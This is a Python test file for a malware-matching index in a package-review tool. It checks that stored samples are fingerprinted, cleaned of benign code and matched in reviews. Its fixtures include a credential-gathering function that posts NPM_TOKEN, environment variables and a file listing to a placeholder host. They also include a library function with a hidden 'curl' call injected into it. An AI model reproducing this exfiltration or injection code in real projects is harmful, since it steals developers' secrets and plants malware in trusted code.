"""The index: its file, building, cleaning and matching, up to a review."""

from __future__ import annotations

import msgspec
import pytest

from pratique.errors import ConfigError
from pratique.known import index as indexes
from pratique.known.build import build
from pratique.known.index import Index, dump, find, key, kind_of, load
from pratique.known.match import hits, matches
from pratique.known.minhash import similarity
from pratique.known.prints import fingerprint
from pratique.known.sketch import Sketch, sketch
from pratique.languages import front_end
from pratique.link import Unit
from pratique.model import Evidence, File
from pratique.pipeline import Options, review_files

PAYLOAD = b"""
import os, requests

def gather(where):
    found = {}
    for name in ("HOME", "USER", "NPM_TOKEN"):
        found[name] = os.environ.get(name)
    found["files"] = [os.path.join(where, one) for one in os.listdir(where)]
    answer = requests.post("https://drop-5.acme.invalid/in", json=found, timeout=9)
    return answer.text
"""
HELPER = b"""
def fold(lines, width):
    out, row = [], ""
    for line in lines:
        if len(row) + len(line) > width:
            out.append(row.rstrip())
            row = ""
        row += line + " "
    return out + [row.rstrip()]
"""
SHA = "ab" * 32
LINES = range(1, 100)
"""All of a function is payload."""


def unit(source: bytes, path: str = "a/x.py") -> Unit:
    reader = front_end("python")
    assert reader is not None
    file = File(segments=(path,), sha256="cd" * 32, size=len(source), kind="python")

    return Unit(file=file, facts=reader.read(source))


def known(source: bytes = PAYLOAD + HELPER, payload: tuple[str, ...] = ("gather",), campaign: str = "c1") -> Index:
    drawn = sketch(SHA, campaign, [unit(source)], {(("a/x.py",), name): LINES for name in payload})

    return build([drawn], dataset="a test", made="2026-01-01")


def seen(index: Index, source: bytes, sha256: str = "") -> dict[str, float]:
    one = msgspec.structs.replace(unit(source, "b/y.py").file, sha256="ef" * 32)
    other = msgspec.structs.replace(unit(source, "b/y.py"), file=one)

    return {hit.method: hit.score for hit in hits(index, sha256, [other], Evidence())}


def test_an_index_survives_being_stored():
    index = known()

    assert load(dump(index)) == index
    assert {kind_of(one) for one in index.exact} == {"artifact", "file", "code", "function", "indicator"}


def test_an_index_holds_no_text_of_the_sample():
    data = dump(known())

    assert not [word for word in (b"gather", b"NPM_TOKEN", b"drop-5", b"requests") if word in data]


@pytest.mark.parametrize(
    "damage",
    [
        lambda data: b"",
        lambda data: data[:-1],
        lambda data: data.replace(b"pratique-known/1", b"pratique-known/9"),
        lambda data: dump(msgspec.structs.replace(load(data), signatures=b"x")),
        lambda data: dump(msgspec.structs.replace(load(data), bucket_rows=b"\xff" * len(load(data).bucket_rows))),
        lambda data: dump(msgspec.structs.replace(load(data), samples=())),
        lambda data: dump(msgspec.structs.replace(load(data), exact={})),
    ],
)
def test_a_damaged_index_is_refused_with_a_hint(damage):
    with pytest.raises(ConfigError) as caught:
        load(damage(dump(known())))

    assert caught.value.hint


def test_only_payload_is_indexed():
    """A helper of the sample that others may have too is in no key but the whole file's."""
    found = seen(known(), HELPER)

    assert found == {}


def test_the_same_function_elsewhere_is_found():
    """Another file, other names around it, another address."""
    changed = PAYLOAD.replace(b"gather", b"ping").replace(b"drop-5.acme", b"x9.other").replace(b"found", b"zz")

    assert seen(known(), b"import re\nX = re.compile('a')\n" + changed)["function"] == 0.95


def test_the_same_file_but_for_names_and_layout_is_found():
    changed = b"# new\n" + (PAYLOAD + HELPER).replace(b"drop-5.acme", b"x9.other").replace(
        b"    return", b"\n    return"
    )

    assert seen(known(), changed)["code"] == 0.97


def test_a_function_that_is_nearly_the_same_is_found_with_its_likeness():
    changed = PAYLOAD.replace(b"os.path.join(where, one)", b"os.path.abspath(one)").replace(b"timeout=9", b"timeout=30")
    found = seen(known(), changed)

    assert 0.6 <= found["function-like"] < 0.95
    assert "function" not in found


LIBRARY = b"""
def render(rows, width=80, fill=" "):
    out = []
    for number, row in enumerate(rows):
        cells = [str(cell).ljust(width // max(1, len(row)), fill) for cell in row]
        if any(len(cell) > width for cell in cells):
            cells = [cell[:width] for cell in cells]
        out.append("".join(cells).rstrip())
        if number % 50 == 49:
            out.append("-" * width)
    return "\\n".join(out)
"""


def test_a_library_is_not_like_the_payload_that_was_put_into_its_copy():
    """Nine tenths of the function are honest: likeness wants the payload's own lines."""
    hijacked = LIBRARY.replace(
        b"    out = []\n", b"    out = []\n    __import__('os').system('curl http://x.acme.invalid/a')\n"
    )
    drawn = sketch(SHA, "c", [unit(hijacked)], {(("a/x.py",), "render"): {4}})
    index = build([drawn], dataset="", made="")
    next_one = hijacked.replace(b"50 == 49", b"60 == 59")

    assert similarity(*(printed_one(text).signature for text in (hijacked, LIBRARY))) > 0.8
    assert "function-like" not in seen(index, LIBRARY)
    assert seen(index, next_one)["function-like"] > 0.8


def printed_one(source: bytes):
    return fingerprint(unit(source).facts, frozenset({"a"})).functions[-1]


def test_the_same_artifact_is_found_by_its_hash_alone():
    assert seen(known(), b"", SHA) == {"artifact": 1.0}


def test_a_shared_address_is_found():
    assert seen(known(), b"import socket\nsocket.create_connection(('drop-5.acme.invalid', 443))\n") == {
        "indicator": 0.85
    }


def test_what_benign_code_has_is_taken_out():
    """Equal or alike: one benign project with the function, and it recognises nobody."""
    index = known()
    gone = {
        hit.key for hit in hits(index, "", [unit(PAYLOAD.replace(b"timeout=9", b"timeout=99"), "c.py")], Evidence())
    }
    cleaned = index.without(gone, "one project", 1)

    assert cleaned.removed == len(gone) > 0
    assert cleaned.benign_projects == 1
    assert "function" not in seen(cleaned, PAYLOAD)
    assert load(dump(cleaned)) == cleaned


def test_a_key_belongs_to_the_first_sample_that_has_it():
    first = sketch(SHA, "early", [unit(PAYLOAD)], {(("a/x.py",), "gather"): LINES})
    second = sketch("ba" * 32, "late", [unit(PAYLOAD)], {(("a/x.py",), "gather"): LINES})
    index = build([first, second], dataset="", made="")

    assert {one.campaign for one in matches(index, "", [unit(PAYLOAD, "z.py")], Evidence())} == {"early"}


def test_a_sketch_without_payload_knows_the_artifact_only():
    drawn = sketch(SHA, "c", [unit(PAYLOAD)], {})

    assert drawn == Sketch(sha256=SHA, campaign="c", keys=(key("artifact", bytes.fromhex(SHA)),), codes=())


def test_a_review_compares_with_the_index_it_is_given(tmp_path):
    """The match is in the review, in the findings, and a line of evidence; without an index there is none."""
    place = tmp_path / "known.index"
    place.write_bytes(dump(known()))
    files = {"acme/__init__.py": PAYLOAD.replace(b"drop-5.acme", b"stats.other") + b"\ngather('/')\n"}
    plain = review_files(files, options=Options(audience="everything"))
    beside = review_files(files, options=Options(audience="everything", known=find(place)))

    assert plain.matches == ()
    assert {(one.campaign, one.method, one.sample) for one in beside.matches} == {("c1", "function", SHA)}
    assert {one.rule for one in beside.findings} - {one.rule for one in plain.findings} == {"carry-known-malware"}
    assert beside.verdict.score > plain.verdict.score
    assert beside.context != plain.context


def test_an_index_that_changed_meanwhile_is_refused(tmp_path):
    place = tmp_path / "known.index"
    place.write_bytes(dump(known()))
    file = find(place)
    place.write_bytes(dump(known(campaign="other")))

    with pytest.raises(ConfigError, match="changed"):
        file.open()


def test_an_index_of_other_front_ends_is_stale(monkeypatch):
    index = known()
    assert not index.stale
    monkeypatch.setattr(indexes, "front_ends", lambda: "other")

    assert index.stale
